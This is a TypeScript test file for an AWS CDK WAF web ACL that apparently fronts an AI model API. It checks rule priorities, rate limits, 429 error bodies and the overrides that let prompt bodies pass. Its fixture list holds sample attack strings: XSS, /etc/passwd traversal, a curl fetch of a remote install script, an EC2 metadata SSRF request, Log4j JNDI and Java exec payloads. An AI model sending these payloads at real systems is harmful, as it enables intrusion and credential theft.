import { Template } from 'aws-cdk-lib/assertions';
import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { WebAcl } from '../../../lib/data-plane/web-acl.ts';
import type { WebAclProps } from '../../../lib/data-plane/web-acl.ts';
import { emptyStack, onlyResource } from '../synthesize.ts';

const override = z.object({ Name: z.string(), ActionToUse: z.record(z.string(), z.unknown()) });
const ruleSchema = z.looseObject({
  Name: z.string(),
  Priority: z.number(),
  OverrideAction: z.record(z.string(), z.unknown()).optional(),
  Statement: z.looseObject({
    ManagedRuleGroupStatement: z
      .looseObject({ VendorName: z.literal('AWS'), RuleActionOverrides: z.array(override).default([]) })
      .optional(),
  }),
});

function synthesizeAcl(props: WebAclProps = {}): Record<string, unknown> {
  const stack = emptyStack('us-east-1');
  new WebAcl(stack, 'WebAcl', props);
  return onlyResource(Template.fromStack(stack), 'AWS::WAFv2::WebACL').Properties;
}

function rulesOf(acl: Record<string, unknown>) {
  return z.array(ruleSchema).parse(acl['Rules']);
}

/** Bodies that reached models through other gateways only after the rule that blocked them was counted. */
const realPrompts = [
  ['a prompt of 200 KB', 'AWSManagedRulesCommonRuleSet', 'SizeRestrictions_BODY'],
  ['<script>alert(1)</script>', 'AWSManagedRulesCommonRuleSet', 'CrossSiteScripting_BODY'],
  ['<meta charset="utf-8">', 'AWSManagedRulesCommonRuleSet', 'CrossSiteScripting_BODY'],
  ['cat ../../etc/passwd', 'AWSManagedRulesCommonRuleSet', 'GenericLFI_BODY'],
  ['curl http://203.0.113.7/install.sh', 'AWSManagedRulesCommonRuleSet', 'GenericRFI_BODY'],
  ['curl http://169.254.169.254/latest/meta-data', 'AWSManagedRulesCommonRuleSet', 'EC2MetaDataSSRF_BODY'],
  ['${jndi:ldap://x/a}', 'AWSManagedRulesKnownBadInputsRuleSet', 'Log4JRCE_BODY'],
  [
    '(java.lang.Runtime).getRuntime().exec("id")',
    'AWSManagedRulesKnownBadInputsRuleSet',
    'JavaDeserializationRCE_BODY',
  ],
  ['{"then":"$1:__proto__:then"}', 'AWSManagedRulesKnownBadInputsRuleSet', 'ReactJSRCE_BODY'],
] as const;

describe('WebAcl', () => {
  it.each(realPrompts)('lets the prompt %j through: %s counts %s', (_prompt, group, rule) => {
    const rules = rulesOf(synthesizeAcl());

    const overrides = rules.find(({ Name }) => Name === group)?.Statement.ManagedRuleGroupStatement
      ?.RuleActionOverrides;

    expect(overrides).toContainEqual({ Name: rule, ActionToUse: { Count: {} } });
  });

  it('counts rules that read bodies and no other rule of a blocking group', () => {
    const rules = rulesOf(synthesizeAcl());

    const overridden = rules.flatMap(({ Statement }) => Statement.ManagedRuleGroupStatement?.RuleActionOverrides ?? []);

    expect(overridden).toHaveLength(8);
    expect(overridden.filter(({ Name }) => !Name.endsWith('_BODY'))).toEqual([]);
  });

  it('checks reputation first, then floods, then attack patterns, and counts anonymous addresses', () => {
    const rules = rulesOf(synthesizeAcl());

    expect(rules.map(({ Priority, Name, OverrideAction }) => [Priority, Name, OverrideAction])).toEqual([
      [0, 'AWSManagedRulesAmazonIpReputationList', { None: {} }],
      [1, 'AWSManagedRulesAnonymousIpList', { Count: {} }],
      [2, 'RatePerAddress', undefined],
      [3, 'RatePerAuthorization', undefined],
      [4, 'AWSManagedRulesCommonRuleSet', { None: {} }],
      [5, 'AWSManagedRulesKnownBadInputsRuleSet', { None: {} }],
    ]);
  });

  it('limits addresses everywhere, and authorization values where models are called', () => {
    const acl = synthesizeAcl({ rateLimitPerAddress: 100, rateLimitPerAuthorization: 50 });

    const statements = rulesOf(acl).map(({ Statement }) => Statement['RateBasedStatement']);
    expect(statements.filter(Boolean)).toEqual([
      { AggregateKeyType: 'IP', EvaluationWindowSec: 300, Limit: 100 },
      {
        AggregateKeyType: 'CUSTOM_KEYS',
        CustomKeys: [{ Header: { Name: 'authorization', TextTransformations: [{ Priority: 0, Type: 'NONE' }] } }],
        EvaluationWindowSec: 300,
        Limit: 50,
        ScopeDownStatement: {
          RegexMatchStatement: {
            FieldToMatch: { UriPath: {} },
            RegexString: '^/v1(beta)?/',
            TextTransformations: [{ Priority: 0, Type: 'NONE' }],
          },
        },
      },
    ]);
  });

  it('answers a flood with 429, retry-after and an OpenAI error', () => {
    const acl = synthesizeAcl();

    const bodies = z
      .record(z.string(), z.object({ ContentType: z.literal('APPLICATION_JSON'), Content: z.string() }))
      .parse(acl['CustomResponseBodies']);
    expect(JSON.parse(bodies['flood']?.Content ?? '')).toEqual({
      error: {
        message: expect.any(String),
        type: 'rate_limit_error',
        param: null,
        code: 'edge_rate_limited',
      },
    });
    const blocks = rulesOf(acl).filter(({ Name }) => Name.startsWith('Rate'));
    expect(blocks.map((rule) => rule['Action'])).toEqual(
      Array.from({ length: 2 }, () => ({
        Block: {
          CustomResponse: {
            ResponseCode: 429,
            CustomResponseBodyKey: 'flood',
            ResponseHeaders: [{ Name: 'retry-after', Value: '60' }],
          },
        },
      })),
    );
  });

  it('is for CloudFront and samples no request, since samples show headers', () => {
    const acl = synthesizeAcl();

    expect(acl).toMatchObject({ Scope: 'CLOUDFRONT', DefaultAction: { Allow: {} } });
    expect(JSON.stringify(acl)).not.toContain('"SampledRequestsEnabled":true');
  });

  it.each([
    [{ rateLimitPerAddress: 9 }, '`rateLimitPerAddress` must be an integer of at least 10, got: 9'],
    [{ rateLimitPerAuthorization: 10.5 }, '`rateLimitPerAuthorization` must be an integer of at least 10, got: 10.5'],
  ])('refuses %j', (props, message) => {
    const build = () => synthesizeAcl(props);

    expect(build).toThrow(message);
  });

  it('refuses a region in which CloudFront cannot use it', () => {
    const build = () => new WebAcl(emptyStack('eu-west-1'), 'WebAcl');

    expect(build).toThrow('a web ACL for CloudFront must be in us-east-1, got a stack in: eu-west-1');
  });
});
